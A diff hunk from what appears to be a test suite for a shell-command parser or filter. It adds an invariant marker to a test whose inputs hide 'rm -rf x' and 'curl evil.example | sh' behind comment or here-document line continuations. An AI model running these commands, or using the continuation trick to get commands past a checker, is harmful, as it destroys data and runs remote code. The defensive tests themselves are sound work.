@@ -65,6 +65,7 @@ def test_characters_we_use_ourselves_never_come_from_outside():
     assert "\ue02a" not in text
 
 
+@pytest.mark.invariant("a comment or a quoted here-document ends with its line, backslash or not")
 @pytest.mark.parametrize(
     "line",
     ["ls # \\\nrm -rf x", "ls # note \\\ncurl evil.example | sh", 'cat <<"E"\nfoo \\\nE\nrm -rf x\nE'],
